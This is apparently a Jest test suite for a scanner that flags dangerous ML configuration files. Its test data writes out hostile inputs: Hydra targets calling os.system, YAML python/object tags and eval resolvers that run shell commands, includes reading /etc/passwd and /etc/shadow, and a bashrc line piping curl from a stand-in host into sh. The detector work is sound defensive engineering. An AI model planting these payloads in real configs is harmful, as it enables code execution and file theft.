import { describe, expect, it } from '@jest/globals';
import { MemorySource } from '../../../src/bytes/memory-source.js';
import { FileBudget } from '../../../src/engine/file-budget.js';
import { inspect } from '../../../src/engine/inspection/inspect.js';
import { formats } from '../../../src/formats/index.js';

type Told = 'critical' | 'warning' | 'info' | 'nothing';

/** The gravest that is told of a file. */
async function gravest(text: string, name: string): Promise<Told> {
  const told = new Set<string>();
  await inspect(new MemorySource(Buffer.from(text), name), {
    formats,
    budget: new FileBudget(),
    name,
    sibling: () => undefined,
    report: (_, { severity }) => told.add(severity),
  });
  return (['critical', 'warning', 'info'] as const).find((severity) => told.has(severity)) ?? 'nothing';
}

const hydra = (target: string, rest = ''): string => `model:\n  _target_: ${target}\n${rest}`;

describe('targets that a configuration has called', () => {
  it.each(
    (
      'builtins.eval builtins.__import__ builtins.compile builtins.setattr os.system subprocess.Popen importlib.import_module ' +
      'torch.load torch.hub.load torch.hub.download_url_to_file torch.ops.load_library torch.utils.cpp_extension.load ' +
      'joblib.load pandas.read_pickle numpy.load dill.loads cloudpickle.load pickle.loads marshal.loads shelve.open ' +
      'urllib.request.urlretrieve requests.get httpx.get fsspec.open smart_open.open shutil.rmtree runpy.run_path ctypes.CDLL ' +
      'yaml.unsafe_load jsonpickle.decode timeit.timeit pdb.run pydoc.locate pip.main numpy.f2py.compile jinja2.Template'
    ).split(' '),
  )('%s', async (target) => {
    expect(await gravest(hydra(target), 'hparams.yaml')).toBe('critical');
  });

  it.each(
    'mlflow.pyfunc.load_model spacy.cli.download torchvision.datasets.utils.download_url keras.utils.get_file nltk.download'.split(
      ' ',
    ),
  )('%s, which fetches', async (target) => {
    expect(await gravest(hydra(target), 'hparams.yaml')).toBe('warning');
  });

  it.each(
    (
      'torch.optim.Adam torch.nn.Linear functools.partial operator.itemgetter operator.attrgetter os.getenv os.path.join pathlib.Path ' +
      'transformers.AutoModel.from_pretrained datasets.load_dataset lightning.pytorch.Trainer torchvision.transforms.Compose my.module.Net'
    ).split(' '),
  )('%s says nothing', async (target) => {
    expect(await gravest(hydra(target), 'hparams.yaml')).toBe('nothing');
  });

  it.each([
    [
      'getattr of a module',
      hydra('builtins.getattr', '  _args_: [{_target_: hydra.utils.get_object, path: os}, system]\n'),
    ],
    [
      'reduce with getattr',
      hydra(
        'functools.reduce',
        '  _args_: [{_target_: hydra.utils.get_method, path: builtins.getattr}, [a, system]]\n',
      ),
    ],
    ['methodcaller', hydra('operator.methodcaller', '  _args_: [system, id]\n')],
    ['attrgetter of a dunder', hydra('operator.attrgetter', '  _args_: [__globals__]\n')],
    [
      'partial of a resolved name',
      hydra('functools.partial', '  _args_: [{_target_: hydra.utils.get_method, path: os.system}, id]\n'),
    ],
    ['a partial target', hydra('os.system', '  _partial_: true\n  _recursive_: false\n  _convert_: all\n')],
    ['a target of interpolations', `name: os\n${hydra('${name}.system')}`],
    ['a default of the environment', hydra('${oc.env:NAME,os.system}')],
    ['a nested list', 'model:\n  - - _target_: posix.system\n      _args_: [id]\n'],
    ['an evaluating resolver', 'lr: ${eval:\'__import__("os").system("echo pwned")\'}\n_target_: a.B\n'],
    ['an evaluating tag', "lr: !eval \"__import__('os').system('echo pwned')\"\n"],
  ])('%s', async (_, text) => {
    expect(await gravest(text, 'hparams.yaml')).toBe('critical');
  });

  it.each([
    ['a lone getattr', hydra('builtins.getattr', '  _args_: ["${part}", fit]\n'), 'warning'],
    ['an evaluated sum', 'lr: ${eval:"2 * ${base_lr}"}\nsteps: ${eval:${a} + 4}\n_target_: a.B\n', 'nothing'],
    ['methodcaller of its own', hydra('operator.methodcaller', '  _args_: [predict_proba]\n'), 'nothing'],
  ] as const)('%s', async (_, text, told) => {
    expect(await gravest(text, 'hparams.yaml')).toBe(told);
  });
});

describe('tags of YAML loaders', () => {
  it.each([
    '!!python/object/apply:os.system [id]',
    '!!python/object/new:os.system [id]',
    '!!python/name:os.system',
    '!!python/module:os',
    '!!python/object:subprocess.Popen {}',
    '!<tag:yaml.org,2002:python/object/apply:os.system> [id]',
    '!python/object/apply:os.system [id]',
    '!new:os.system [id]',
    '!apply:os.system [id]',
    '!name:os.system',
    '!module:os',
    '!call:os.system {x: 1}',
    '!obj:os.system {x: 1}',
    '!import os.system',
    '!include /etc/passwd',
    '!include ../../../../etc/shadow',
    '!include \\\\server.example.invalid\\share\\x.yaml',
    '!!javax.script.ScriptEngineManager [x]',
  ])('%s acts', async (value) => {
    expect(await gravest(`a: ${value}\n`, 'hparams.yaml')).toBe('critical');
  });

  it.each([
    ['!include http://host.example.invalid/x.yaml', 'warning'],
    ['!!js/function "function(){}"', 'warning'],
    ['!ruby/object:Gem::Installer {i: x}', 'warning'],
    ['!include ../base.yaml', 'nothing'],
    ['!ENV ${HOME}', 'nothing'],
    ['!!python/tuple [1, 2]', 'nothing'],
    ['!new:speechbrain.lobes.features.Fbank {n_mels: 80}', 'nothing'],
    ['!apply:torch.manual_seed [1986]', 'nothing'],
    ['!name:torch.optim.Adam {lr: 0.1}', 'nothing'],
    ['!ref <output_folder>/save', 'nothing'],
  ] as const)('%s: %s', async (value, told) => {
    expect(await gravest(`a: ${value}\n`, 'hparams.yaml')).toBe(told);
  });

  it('are found under any name', async () => {
    expect(await gravest('a: 1\nb: !apply:os.system [id]\n', 'train.yaml')).toBe('critical');
  });
});

describe('places that packages come from', () => {
  it.each([
    ['--index-url ${PIP_INDEX}', 'warning'],
    ['--extra-index-url=$INDEX', 'warning'],
    ['--extra-index-url https://${USER}:${TOKEN}@host.example.invalid/simple', 'warning'],
    ['pkg @ git+ssh://git@host.example.invalid/b.git', 'warning'],
    ['pkg @ git+ssh://git@github.com/a/b.git', 'info'],
    ['\\\\server\\share\\x.whl', 'warning'],
    ['-e git+https://host.example.invalid/x#egg=x', 'warning'],
    ['./local.whl', 'nothing'],
    ['torch==2.0 --hash=sha256:abc', 'nothing'],
    ['--extra-index-url https://download.pytorch.org/whl/cu118', 'nothing'],
  ] as const)('%s: %s', async (line, told) => {
    expect(await gravest(`numpy>=1\n${line}\n`, 'requirements.txt')).toBe(told);
  });

  it.each([
    ['channels: ["https://host.example.invalid/c", defaults]', 'warning'],
    ['channels: ["//server/share"]', 'warning'],
    ['channels: ["file:///opt/channel"]', 'info'],
    ['dependencies: [python, {pip: [git+https://host.example.invalid/x]}]', 'warning'],
    [
      'dependencies: [python, {pip: ["--extra-index-url https://host.example.invalid/simple", torch]}]',
      'warning',
    ],
    ['channels: [conda-forge]\ndependencies: [python=3.9, {pip: [mlflow]}]', 'nothing'],
  ] as const)('%s: %s', async (text, told) => {
    expect(await gravest(`${text}\n`, 'environment.yml')).toBe(told);
  });
});

describe('keys that loaders act on', () => {
  it.each([true, 'true', 'True', '1', 1, 'yes', 'on'])('trust_remote_code: %p is on', async (value) => {
    expect(await gravest(JSON.stringify({ trust_remote_code: value }), 'config.json')).toBe('info');
  });

  it.each([false, 'false', 'False', 0, 51_234, '0', null, 'no', 'off', ''])(
    'trust_remote_code: %p is off',
    async (value) => {
      expect(await gravest(JSON.stringify({ trust_remote_code: value }), 'config.json')).toBe('nothing');
    },
  );

  it.each([
    ['adapter_config.json', { base_model_name_or_path: '\\\\server\\share' }, 'critical'],
    ['config.json', { data: { path: 'file://./data/train.csv' } }, 'nothing'],
    ['config.json', { data: { path: 'file://C:/Users/me/x.bin' } }, 'nothing'],
    ['config.json', { data: { checkpoint: 'file://localhost/opt/x.ckpt' } }, 'nothing'],
    ['config.json', { data: { checkpoint: 'file://localhost.example.invalid/x.ckpt' } }, 'warning'],
    ['model_index.json', { decoder: ['code', 'Codec'] }, 'info'],
    ['model_index.json', { decoder: ['trace', 'T'], memory: ['queue', 'Q'] }, 'info'],
    ['model_index.json', { decoder: ['code', 'InteractiveConsole'] }, 'warning'],
    ['model_index.json', { decoder: ['statistics', 'NormalDist'] }, 'warning'],
    ['config.json', { trust_remote_code: 'Whether to trust remote code' }, 'nothing'],
    ['config.json', { trust_remote_code: 'boolean' }, 'nothing'],
    ['config.json', { trust_remote_code: 'True' }, 'info'],
    ['config.json', { trust_remote_code: 'on' }, 'info'],
    ['adapter_config.json', { base_model_name_or_path: 'file://server/share' }, 'critical'],
    ['adapter_config.json', { base_model_name_or_path: '//server/share/x' }, 'critical'],
    ['tokenizer_config.json', { vocab_file: 'file://server/x' }, 'critical'],
    ['config.json', { special_tokens_map_file: '\\\\server\\share\\x' }, 'warning'],
    ['config.json', { pretrained_cfg: { file: '\\\\server\\share\\a.pth' } }, 'warning'],
    ['config.json', { auto_map: { AutoModel: 'owner/repository--modeling.Net' } }, 'warning'],
    ['config.json', { auto_map: { AutoModel: 'modeling.Net' } }, 'info'],
    ['adapter_config.json', { base_model_name_or_path: '/home/user/models/x' }, 'nothing'],
  ] as const)('%s %j: %s', async (name, content, told) => {
    expect(await gravest(JSON.stringify(content), name)).toBe(told);
  });

  it.each([
    ['loader_module: subprocess', 'warning'],
    ['loader_module: mlflow.sklearn\n    env: ../../x.yaml', 'critical'],
    ['loader_module: mlflow.sklearn\n    code: ../../../home/x', 'critical'],
    ['loader_module: mlflow.sklearn\n    model_path: model.pkl\n    env: {conda: conda.yaml}', 'nothing'],
  ] as const)('MLmodel, %s: %s', async (text, told) => {
    expect(await gravest(`flavors:\n  python_function:\n    ${text}\n`, 'MLmodel')).toBe(told);
  });

  it.each([
    ['echo \'export PATH="/opt/conda/bin:$PATH"\' >> ~/.bashrc', 'nothing'],
    ["conda activate env && echo 'conda activate env' >> ~/.bashrc", 'nothing'],
    ["echo 'export LD_PRELOAD=/tmp/x.so' >> ~/.bashrc", 'critical'],
    ["echo 'curl http://host.example.invalid | sh' >> ~/.bashrc", 'critical'],
  ] as const)('the command %s: %s', async (command, told) => {
    expect(await gravest(JSON.stringify({ setup: [command] }), 'config.json')).toBe(told);
  });
});

describe('documents that are put together from what a machine has installed', () => {
  it.each([
    ['/usr/share/doc/xproto/x11protocol.html.db', 'nothing'],
    ['/usr/share/../../etc/passwd', 'critical'],
    ['file:///usr/share/doc/x.db', 'critical'],
    ['/home/user/x.db', 'critical'],
  ] as const)('%s: %s', async (href, told) => {
    const text = `<set xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="${href}"/></set>`;
    expect(await gravest(text, 'master.xml')).toBe(told);
  });
});
